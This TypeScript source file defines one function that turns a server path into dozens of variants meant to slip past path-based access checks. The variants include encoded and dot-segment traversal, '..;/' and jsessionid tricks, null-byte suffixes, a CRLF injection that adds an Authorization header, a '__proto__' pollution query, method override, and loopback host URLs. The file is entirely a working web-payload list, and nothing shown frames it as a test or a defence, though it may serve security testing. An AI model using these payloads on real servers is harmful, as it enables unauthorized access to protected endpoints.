/** Ways to write a path so that one part of a server takes it for that path, and another one does not. */
export function formsOf(path: string): readonly string[] {
  const [, first = ''] = path.split('/');
  const last = path.slice(path.lastIndexOf('/') + 1);
  const behind = path.slice(0, path.length - last.length - 1);
  return [
    `/${path}`,
    `//${path}`,
    `/.${path}`,
    `/x/..${path}`,
    `/health/..${path}`,
    `/health/live/%2e%2e/%2e%2e${path}`,
    `/openapi.json/..${path}`,
    `/status.json${path}`,
    `/%2e%2e${path}`,
    `/%2e${path}`,
    `/${first}/${path.slice(first.length + 1)}`,
    `/%${first.charCodeAt(0).toString(16)}${path.slice(2)}`,
    `${behind}//${last}`,
    `${behind}/./${last}`,
    `${behind}/x/../${last}`,
    `${behind}%2f${last}`,
    `${behind}%5c${last}`,
    `${behind}\\${last}`,
    `${path}/`,
    `${path}//`,
    `${path}/.`,
    `${path}%2f`,
    `${path}/..;/`,
    `${path};jsessionid=1`,
    `${path}%00`,
    `${path}%20`,
    `${path}%0d%0aAuthorization:%20x`,
    `${path}.json`,
    `${path}.css`,
    `${path}?_method=GET`,
    `${path}?__proto__[may]=write`,
    path.toUpperCase(),
    path.replace('/api', '/API'),
    `http://127.0.0.1${path}`,
    `http://example.com@127.0.0.1${path}`,
  ];
}
